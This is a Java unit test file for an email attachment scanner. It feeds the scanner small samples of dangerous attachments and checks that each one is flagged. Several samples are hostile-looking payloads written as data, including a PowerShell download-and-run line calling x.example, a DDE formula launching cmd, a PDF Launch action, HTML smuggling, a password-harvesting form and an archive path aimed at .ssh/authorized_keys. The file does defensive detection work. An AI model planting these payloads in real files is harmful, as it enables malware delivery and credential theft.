package org.chancery.core.attachment;

import static org.chancery.core.attachment.FileSamples.BATCH;
import static org.chancery.core.attachment.FileSamples.JSCRIPT;
import static org.chancery.core.attachment.FileSamples.NOTES;
import static org.chancery.core.attachment.FileSamples.SHELL;
import static org.chancery.core.attachment.FileSamples.STORAGE;
import static org.chancery.core.attachment.FileSamples.base64;
import static org.chancery.core.attachment.FileSamples.compound;
import static org.chancery.core.attachment.FileSamples.gzip;
import static org.chancery.core.attachment.FileSamples.hex;
import static org.chancery.core.attachment.FileSamples.join;
import static org.chancery.core.attachment.FileSamples.padded;
import static org.chancery.core.attachment.FileSamples.pdf;
import static org.chancery.core.attachment.FileSamples.rawZip;
import static org.chancery.core.attachment.FileSamples.stream;
import static org.chancery.core.attachment.FileSamples.tar;
import static org.chancery.core.attachment.FileSamples.text;
import static org.chancery.core.attachment.FileSamples.windowsProgram;
import static org.chancery.core.attachment.FileSamples.zip;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What is dangerous by itself: one row for each kind, in the disguise that it comes in. */
class DangerousAttachmentsTest {

    static Stream<Arguments> programs() {
        byte[] iso = padded(new byte[0], 40_000);
        System.arraycopy(text("CD001"), 0, iso, 32_769, 5);
        byte[] autorun = iso.clone();
        System.arraycopy(text("AUTORUN.INF"), 0, autorun, 36_000, 11);
        byte[] vhd = padded(text("disk"), 2_048);
        System.arraycopy(text("conectix"), 0, vhd, 1_536, 8);
        return Stream.of(
                row("executable", "holiday.jpg", "image/jpeg", windowsProgram()),
                row("executable", "readme", "text/plain", join(text("\u007fELF\u0002\u0001\u0001"), new byte[64])),
                row(
                        "executable",
                        "a.bin",
                        "application/octet-stream",
                        join(text("\u00cf\u00fa\u00ed\u00fe"), new byte[64])),
                row(
                        "executable",
                        "a.dat",
                        "application/octet-stream",
                        join(text("\u00ca\u00fe\u00ba\u00be\0\0\0\u0041"), new byte[9])),
                row("executable", "a.pdf", "application/pdf", join(text("dex\n035\0"), new byte[64])),
                row("executable", "help.pdf", "application/pdf", join(text("ITSF\u0003\0\0\0"), new byte[64])),
                row(
                        "executable",
                        "tool.zip",
                        "application/zip",
                        zip(
                                "META-INF/MANIFEST.MF",
                                text("x"),
                                "A.class",
                                text("\u00ca\u00fe\u00ba\u00be\0\0\0\u0041"))),
                row(
                        "installer",
                        "doc.pdf",
                        "application/pdf",
                        zip("AndroidManifest.xml", text("\u0003"), "classes.dex", text("dex\n035\0"))),
                row(
                        "installer",
                        "setup.doc",
                        "application/msword",
                        compound("\u0084\u0010\u000c\0\0\0\0\0\u00c0\0\0\0\0\0\0\u0046", "x", new byte[9])),
                row("installer", "a.pdf", "application/pdf", join(text("xar!\0\u001c"), new byte[64])),
                row(
                        "shortcut",
                        "invoice.pdf",
                        "application/pdf",
                        join(text("L\0\0\0\u0001\u0014\u0002\0\0\0\0\0\u00c0\0\0\0\0\0\0F"), new byte[64])),
                row(
                        "shortcut",
                        "link.txt",
                        "text/plain",
                        text("[InternetShortcut]\r\nURL=file://203.0.113.7/x/run.exe\r\n")),
                row("shortcut", "start", "text/plain", text("[Desktop Entry]\nType=Application\nExec=sh -c 'id'\n")),
                row("disk_image", "scan.pdf", "application/pdf", iso),
                row("disk_image", "scan.img", "application/octet-stream", autorun),
                row("disk_image", "a.dat", "application/octet-stream", vhd),
                row("disk_image", "a.dat", "application/octet-stream", join(text("vhdxfile"), new byte[64])));
    }

    static Stream<Arguments> scripts() {
        return Stream.of(
                row("script", "invoice.pdf", "application/pdf", SHELL),
                row("script", "invoice.pdf", "application/pdf", BATCH),
                row("script", "invoice.pdf", "application/pdf", JSCRIPT),
                row("script", "invoice.pdf", "application/pdf", text("alert('hello')")),
                row("script", "invoice.pdf", "application/octet-stream", text("import os\nos.system('id')\n")),
                row("script", "picture.png", "image/png", text("powershell -nop -w hidden -enc SQBFAFgA")),
                row("script", "data", "application/octet-stream", JSCRIPT),
                row(
                        "script",
                        "data",
                        "application/octet-stream",
                        join(
                                text("\u00ff\u00fe"),
                                new String(JSCRIPT, StandardCharsets.ISO_8859_1).getBytes(StandardCharsets.UTF_16LE))),
                row(
                        "script",
                        "data",
                        "application/octet-stream",
                        new String(BATCH, StandardCharsets.ISO_8859_1).getBytes(StandardCharsets.UTF_16LE)),
                row("script", "data", "application/octet-stream", join(text("' ".repeat(200_000)), JSCRIPT)),
                row(
                        "script",
                        "data",
                        "application/octet-stream",
                        text("Set o = CreateObject(\"Shell.Application\")\r\nOn Error Resume Next\r\n")),
                row(
                        "script",
                        "data",
                        "application/octet-stream",
                        text("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')")),
                row(
                        "script",
                        "data",
                        "application/octet-stream",
                        text("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n")),
                row(
                        "script",
                        "data",
                        "text/plain",
                        text("<job id=\"a\"><script language=\"VBScript\">x</script></job>")),
                row("script", "page.html", "text/html", text("<html><head><HTA:APPLICATION id=a></head></html>")),
                row(
                        "script",
                        "eicar.txt",
                        "text/plain",
                        text("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*")),
                row("html_script", "a.html", "text/html", text("<html><body onload=\"go()\">x</body></html>")),
                row(
                        "html_script",
                        "a.htm",
                        "text/plain",
                        text("<!DOCTYPE html><script src='https://x.example/a.js'></script>")),
                row(
                        "html_script",
                        "a.pdf",
                        "application/pdf",
                        text("<html><script>location='https://x.example'</script></html>")),
                row("html_script", "a.html", "text/html", text("<html><a href=\"javascript:alert(1)\">x</a></html>")),
                row(
                        "html_script",
                        "a.html",
                        "text/html",
                        text("<html><iframe src='data:text/html;base64,PHNjcmlwdD4='></iframe></html>")),
                row(
                        "html_smuggling",
                        "a.html",
                        "text/html",
                        text(
                                "<html><script>var b=new Blob([atob('TVo=')]);a.href=URL.createObjectURL(b)</script></html>")),
                row(
                        "html_smuggling",
                        "a.html",
                        "text/html",
                        text(
                                "<html><a download='a.exe' href='data:application/x-msdownload;base64,TVo='>x</a></html>")),
                row(
                        "html_login_form",
                        "a.html",
                        "text/html",
                        text("<html><form action='https://x.example'><input type=password name=p></form></html>")),
                row(
                        "svg_script",
                        "a.svg",
                        "image/svg+xml",
                        text(
                                "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")),
                row(
                        "svg_script",
                        "a.svg",
                        "image/svg+xml",
                        text("<svg xmlns='http://www.w3.org/2000/svg' onload='go()'/>")),
                row("dde_link", "a.csv", "text/csv", text("name,phone\n=cmd|'/C calc'!A0,1\n")),
                row(
                        "excel4_macro",
                        "a.slk",
                        "text/plain",
                        text("ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC(\"calc\")\n")));
    }

    static Stream<Arguments> documents() {
        byte[] biff = text("\u0009\u0008\u0002\0\0\0\u0085\0\u0008\0\0\0\0\0\0\u0001\u0001\0\n\0\0\0");
        byte[] native10 = join(
                text("\0\0\0\0\u0002\0run.exe\0C:\\run.exe\0\0\0\u0003\0\u000b\0\0\0C:\\run.exe\0\0\u0002\0\0"),
                windowsProgram());
        byte[] oneNote = join(
                text("\u00e4\u0052\\\u007b\u008c\u00d8\u00a7\u004d\u00ae\u00b1\u0053\u0078\u00d0\u0029\u0096\u00d3"),
                new byte[64],
                text(
                        "\u00e7\u0016\u00e3\u00bd\u0065\u0026\u0011\u0045\u00a4\u00c4\u008d\u004d\u000b\u007a\u009e\u00ac"),
                text("\u0000\u0002\0\0\0\0\0\0"),
                new byte[12],
                windowsProgram());
        String types =
                "<?xml version='1.0'?><Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>";
        String rels =
                "<?xml version='1.0'?><Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://x.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
        String equation =
                "{\\rtf1{\\object\\objemb{\\*\\objdata 01050000020000000b000000" + hex(text("Equation.3\0")) + "}}}";
        return Stream.of(
                row(
                        "macro",
                        "a.doc",
                        "application/msword",
                        compound("", "WordDocument", new byte[64], "Macros", STORAGE, "VBA", STORAGE)),
                row(
                        "macro",
                        "a.xls",
                        "application/vnd.ms-excel",
                        compound("", "Workbook", new byte[64], "_VBA_PROJECT_CUR", STORAGE)),
                row(
                        "macro",
                        "a.docx",
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                        zip("[Content_Types].xml", text(types), "word/vbaProject.bin", new byte[9])),
                row(
                        "macro",
                        "a.xml",
                        "text/xml",
                        text(
                                "<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument w:macrosPresent=\"yes\"/>")),
                row(
                        "macro",
                        "a.odt",
                        "application/vnd.oasis.opendocument.text",
                        zip(
                                "mimetype",
                                text("application/vnd.oasis.opendocument.text"),
                                "Basic/Standard/Module1.xml",
                                text("<x/>"))),
                row("excel4_macro", "a.xls", "application/vnd.ms-excel", compound("", "Workbook", biff)),
                row(
                        "excel4_macro",
                        "a.xlsx",
                        "application/zip",
                        zip("[Content_Types].xml", text(types), "xl/macrosheets/sheet1.xml", text("<x/>"))),
                row(
                        "dde_link",
                        "a.docx",
                        "application/zip",
                        zip(
                                "[Content_Types].xml",
                                text(types),
                                "word/document.xml",
                                text(
                                        "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\windows\\\\cmd.exe</w:instrText>"))),
                row(
                        "dde_link",
                        "a.doc",
                        "application/msword",
                        compound("", "WordDocument", join(new byte[64], text("\u0013 DDEAUTO c:\\x.exe \u0014")))),
                row(
                        "remote_template",
                        "a.docx",
                        "application/zip",
                        zip("[Content_Types].xml", text(types), "word/_rels/settings.xml.rels", text(rels))),
                row(
                        "remote_template",
                        "a.rtf",
                        "application/rtf",
                        text("{\\rtf1{\\*\\template https://x.example/t.dotm}}")),
                row("exploit_object", "a.doc", "application/rtf", text(equation)),
                row("exploit_object", "a.rtf", "application/rtf", text(equation.replace("4571", "45 {\\x1 7}1"))),
                row(
                        "exploit_object",
                        "a.rtf",
                        "application/rtf",
                        text("{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 00}}}")),
                row("exploit_object", "a.doc", "application/msword", compound("", "Equation Native", new byte[9])),
                row("executable", "a.doc", "application/msword", compound("", "\u0001Ole10Native", native10)),
                row(
                        "executable",
                        "a.xlsx",
                        "application/zip",
                        zip(
                                "[Content_Types].xml",
                                text(types),
                                "xl/embeddings/oleObject1.bin",
                                compound("", "\u0001Ole10Native", native10))),
                row(
                        "executable",
                        "mail.msg",
                        "application/vnd.ms-outlook",
                        compound("", "__substg1.0_37010102", windowsProgram())),
                row("executable", "notes.one", "application/onenote", oneNote),
                row("executable", "winmail.dat", "application/ms-tnef", tnef(windowsProgram())),
                row(
                        "pdf_action",
                        "a.pdf",
                        "application/pdf",
                        pdf("<< /Type /Catalog /OpenAction 2 0 R >>", "<< /S /JavaScript /JS (app.alert(1)) >>")),
                row(
                        "pdf_action",
                        "a.pdf",
                        "application/pdf",
                        pdf("<< /Type /Catalog /OpenAction << /S /J#61vaScript /JS 3 0 R >> >>")),
                row(
                        "pdf_action",
                        "a.pdf",
                        "application/pdf",
                        pdf("<< /Names << /JavaScript 2 0 R >> >>", "<< /S /JavaScript /JS (x) >>")),
                row("pdf_action", "a.pdf", "application/pdf", pdf("<< /OpenAction << /S /Launch /F (cmd.exe) >> >>")),
                row(
                        "pdf_action",
                        "a.pdf",
                        "application/pdf",
                        pdf(stream(
                                "/Type /ObjStm /N 1 /First 4",
                                text("5 0 << /OpenAction << /S /Launch /F (a.exe) >> >>")))),
                row(
                        "pdf_action",
                        "a.jpg",
                        "image/jpeg",
                        join(text("\u00ff\u00d8\u00ff\u00e0junk"), pdf("<< /S /Launch >>"))),
                row(
                        "executable",
                        "a.pdf",
                        "application/pdf",
                        pdf("<< /Type /Catalog >>", stream("/Type /EmbeddedFile", windowsProgram()))),
                row(
                        "encrypted_document",
                        "a.docx",
                        "application/zip",
                        compound("", "EncryptionInfo", new byte[9], "EncryptedPackage", new byte[9])),
                row(
                        "encrypted_document",
                        "a.xls",
                        "application/vnd.ms-excel",
                        compound("", "Workbook", text("\u0009\u0008\0\0\u002f\0\0\0"))),
                row(
                        "encrypted_document",
                        "a.doc",
                        "application/msword",
                        compound("", "WordDocument", text("\u00ec\u00a5\u00c1\0\0\0\0\0\0\0\0\u0001"))),
                row(
                        "encrypted_document",
                        "a.odt",
                        "application/zip",
                        zip(
                                "mimetype",
                                text("application/vnd.oasis.opendocument.text"),
                                "META-INF/manifest.xml",
                                text("<manifest:encryption-data/>"))));
    }

    static Stream<Arguments> archives() {
        byte[] program = windowsProgram();
        return Stream.of(
                row("executable", "a.zip", "application/zip", zip("readme.txt", NOTES, "picture.jpg", program)),
                row(
                        "executable",
                        "a.zip",
                        "application/zip",
                        zip("inner.zip", zip("innermost.zip", zip("x", program)))),
                row("executable", "a.tar.gz", "application/gzip", gzip(tar("dir/picture.jpg", program))),
                row("executable", "a.gz", "application/gzip", join(gzip(NOTES), gzip(program))),
                row(
                        "executable",
                        "a.jpg",
                        "image/jpeg",
                        join(text("\u00ff\u00d8\u00ff\u00e0"), NOTES, zip("x", program))),
                row("script", "a.zip", "application/zip", zip("invoice.pdf", SHELL)),
                row("script", "run.bat.bz2", "application/x-bzip2", base64(Packs.BZIP2)),
                row("script", "run.bat.xz", "application/x-xz", base64(Packs.XZ)),
                row("script", "a.7z", "application/x-7z-compressed", base64(Packs.SEVEN_ZIP_LZMA2)),
                row("script", "a.7z", "application/x-7z-compressed", base64(Packs.SEVEN_ZIP_LZMA)),
                row("runnable_name", "a.7z", "application/x-7z-compressed", base64(Packs.SEVEN_ZIP_PPMD)),
                row("encrypted_archive", "a.7z", "application/x-7z-compressed", base64(Packs.SEVEN_ZIP_ENCRYPTED)),
                row(
                        "encrypted_archive",
                        "a.7z",
                        "application/x-7z-compressed",
                        base64(Packs.SEVEN_ZIP_ENCRYPTED_HEADER)),
                row("encrypted_archive", "a.zip", "application/zip", rawZip("a.txt", "a.txt", 1, 8, NOTES, 999)),
                row("encrypted_archive", "a.zip", "application/zip", rawZip("a.txt", "a.txt", 0, 99, NOTES, 999)),
                row("encrypted_archive", "a.zip", "application/zip", rawZip("a.txt", "a.txt", 0x2000, 8, NOTES, 999)),
                row("encrypted_archive", "a.rar", "application/vnd.rar", rar4(0x74, 4)),
                row("encrypted_archive", "a.rar", "application/vnd.rar", rar4(0x73, 0x80)),
                row(
                        "encrypted_archive",
                        "a.rar",
                        "application/vnd.rar",
                        text("Rar!\u001a\u0007\u0001\0\0\0\0\0\u0004\u0004\0\0\0\0\0\0")),
                row("runnable_name", "a.rar", "application/vnd.rar", rar4(0x74, 0)),
                row("runnable_name", "a.rar", "application/vnd.rar", rar5("x.exe")),
                row("runnable_name", "a.cab", "application/vnd.ms-cab-compressed", cabinet("x.exe")),
                row("runnable_name", "a.zip", "application/zip", rawZip("x.exe", "x.exe", 0, 14, NOTES, 999)),
                row(
                        "archive_two_readings",
                        "a.zip",
                        "application/zip",
                        rawZip("a.pdf", "a.exe", 0, 0, NOTES, NOTES.length)),
                row("executable", "a.zip", "application/zip", join(zip("a.exe", program), zip("a.txt", NOTES))));
    }

    static Stream<Arguments> names() {
        return Stream.of(
                row("runnable_name", "setup.exe", "application/octet-stream", NOTES),
                row("runnable_name", "invoice.js", "text/javascript", text("x")),
                row("runnable_name", "screen.scr.", "application/octet-stream", NOTES),
                row("runnable_name", "x.exe::$DATA", "application/octet-stream", NOTES),
                row("runnable_name", "empty.hta", "application/octet-stream", new byte[0]),
                row("double_extension", "invoice.pdf.exe", "application/pdf", NOTES),
                row("double_extension", "invoice.pdf                 .js", "application/pdf", NOTES),
                row("name_turned_round", "invoice=?utf-8?Q?=E2=80=AE?=fdp.txt", "text/plain", NOTES));
    }

    @ParameterizedTest
    @MethodSource({"programs", "scripts", "documents", "archives", "names"})
    void what_is_dangerous_is_found_whatever_it_says_it_is(String sign, String name, String type, byte[] content) {
        AttachmentFindings findings = Mails.inspect(name, type, content);
        assertTrue(Mails.dangers(findings).contains(sign), () -> sign + " not in " + findings);
    }

    @Test
    void a_script_disguised_as_pdf_is_told_for_people() {
        AttachmentFindings findings = Mails.inspect("invoice.pdf", "application/pdf", JSCRIPT);
        assertEquals(List.of("script"), Mails.dangers(findings));
        assertEquals(
                "invoice.pdf: JScript or VBScript, declared application/pdf",
                findings.dangers().getFirst().detail());
    }

    @Test
    void the_path_into_archives_is_told() {
        AttachmentFindings findings =
                Mails.inspect("a.zip", "application/zip", zip("b.zip", zip("c.dat", windowsProgram())));
        assertEquals(
                "a.zip › b.zip › c.dat: a Windows program",
                findings.dangers().getFirst().detail());
    }

    @Test
    void what_hides_behind_the_first_archive_is_told_to_hide() {
        byte[] two = join(zip("a.txt", NOTES), zip("b.txt", NOTES));
        assertTrue(Mails.dangers(Mails.inspect("a.zip", "application/zip", two)).contains("archive_two_readings"));
    }

    @Test
    void uuencode_in_the_text_is_undone() {
        String mail =
                "Subject: x\r\n\r\nHello\r\n\r\nbegin 644 run.dat\r\n" + uuencode(windowsProgram()) + "`\r\nend\r\n";
        assertEquals(List.of("executable"), Mails.dangers(Mails.inspect(mail)));
    }

    @Test
    void what_is_signed_opaquely_is_opened() {
        byte[] entity = text(Mails.part("a.dat", "application/octet-stream", windowsProgram()));
        byte[] oid = text("\u0006\u0009\u002a\u0086\u0048\u0086\u00f7\r\u0001\u0007");
        byte[] inner = der(0x30, join(oid, new byte[] {1}, der(0xa0, der(0x04, entity))));
        byte[] signed = der(
                0x30, join(oid, new byte[] {2}, der(0xa0, der(0x30, join(text("\u0002\u0001\u0001\u0031\0"), inner)))));
        assertEquals(
                List.of("executable"),
                Mails.dangers(Mails.inspect("smime.p7m", "application/pkcs7-mime; smime-type=signed-data", signed)));
    }

    @Test
    void an_attached_message_is_looked_into_whatever_it_is_called() {
        String inner = Mails.mail(Mails.part("a.jpg", "image/jpeg", windowsProgram()));
        String outer = "Content-Type: message/rfc822\r\n\r\n" + inner;
        assertEquals(List.of("executable"), Mails.dangers(Mails.inspect(Mails.mail(outer))));
        assertEquals(
                List.of("executable"), Mails.dangers(Mails.inspect("a.eml", "application/octet-stream", text(inner))));
    }

    @Test
    void a_piece_of_a_message_is_dangerous_as_nobody_sees_the_whole() {
        String piece = "Content-Type: message/partial; id=x; number=1; total=2\r\n\r\nSubject: x\r\n";
        assertEquals(List.of("message_fragment"), Mails.dangers(Mails.inspect(Mails.mail(piece))));
    }

    @Test
    void a_page_saved_with_its_pictures_is_looked_into() {
        byte[] page = text(
                "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=p\r\n\r\n--p\r\nContent-Type: text/html\r\n"
                        + "Content-Transfer-Encoding: base64\r\n\r\n"
                        + Base64.getEncoder().encodeToString(text("<html><script>x()</script></html>"))
                        + "\r\n--p--\r\n");
        assertEquals(List.of("html_script"), Mails.dangers(Mails.inspect("a.mht", "application/x-mimearchive", page)));
    }

    @Test
    void a_name_that_leads_out_of_its_folder_is_found() {
        byte[] archive = zip("../../.ssh/authorized_keys", NOTES);
        assertEquals(List.of("escaping_name"), Mails.dangers(Mails.inspect("a.zip", "application/zip", archive)));
        assertEquals(List.of(), Mails.dangers(Mails.inspect("a.zip", "application/zip", zip("a..b/..c", NOTES))));
    }

    @Test
    void a_third_name_in_a_zip_is_not_overlooked() {
        byte[] archive = rawZip("a.txt", "a.txt", 0, 0, NOTES, NOTES.length);
        byte[] field = join(text("up\n\0\u0001\0\0\0\0"), text("a.exe"));
        int directory = new String(archive, StandardCharsets.ISO_8859_1).indexOf("PK\u0001\u0002");
        int end = directory + 46 + 5;
        byte[] changed = join(Arrays.copyOf(archive, end), field, Arrays.copyOfRange(archive, end, archive.length));
        changed[directory + 30] = (byte) field.length;
        changed[end + field.length + 12] += (byte) field.length;
        assertEquals(
                List.of("archive_two_readings"), Mails.dangers(Mails.inspect("a.zip", "application/zip", changed)));
    }

    @Test
    void a_second_name_is_not_overlooked() {
        String part =
                "Content-Type: text/plain; name=\"a.exe\"\r\nContent-Disposition: attachment; filename=\"a.txt\"\r\n\r\nx\r\n";
        assertEquals(List.of("runnable_name"), Mails.dangers(Mails.inspect(Mails.mail(part))));
    }

    private static Arguments row(String sign, String name, String type, byte[] content) {
        return Arguments.of(sign, name, type, content);
    }

    static byte[] tnef(byte[] content) {
        byte[] length = {(byte) content.length, (byte) (content.length >> 8), 0, 0};
        return join(text("x\u009f>\"\0\0"), text("\u0002\u000f\u0080\u0006\0"), length, content, new byte[2]);
    }

    static byte[] rar4(int type, int flags) {
        byte[] block = new byte[32 + 5 + 4];
        block[2] = (byte) type;
        block[3] = (byte) flags;
        block[5] = 37;
        block[7] = 4;
        block[25] = 0x33;
        block[26] = 5;
        System.arraycopy(text("x.exe"), 0, block, 32, 5);
        return join(text("Rar!\u001a\u0007\0"), block);
    }

    static byte[] rar5(String name) {
        byte[] fields =
                join(text("\u0002\u0002\u0004\0\u0008\0\u0080\u0001\0"), new byte[] {(byte) name.length()}, text(name));
        return join(text("Rar!\u001a\u0007\u0001\0\0\0\0\0"), new byte[] {(byte) fields.length}, fields, new byte[4]);
    }

    static byte[] cabinet(String name) {
        byte[] header = new byte[36];
        System.arraycopy(text("MSCF"), 0, header, 0, 4);
        header[16] = 36;
        header[28] = 1;
        return join(header, new byte[16], text(name), new byte[1]);
    }

    static byte[] der(int tag, byte[] content) {
        return join(new byte[] {(byte) tag, (byte) 0x82, (byte) (content.length >> 8), (byte) content.length}, content);
    }

    static String uuencode(byte[] content) {
        StringBuilder out = new StringBuilder();
        for (int at = 0; at < content.length; at += 45) {
            int length = Math.min(45, content.length - at);
            out.append((char) (' ' + length));
            byte[] line = padded(Arrays.copyOfRange(content, at, at + length), 45);
            for (int i = 0; i < length; i += 3) {
                int bits = (line[i] & 0xff) << 16 | (line[i + 1] & 0xff) << 8 | line[i + 2] & 0xff;
                for (int shift = 18; shift >= 0; shift -= 6) {
                    out.append((char) (' ' + (bits >> shift & 0x3f)));
                }
            }
            out.append("\r\n");
        }
        return out.toString();
    }
}
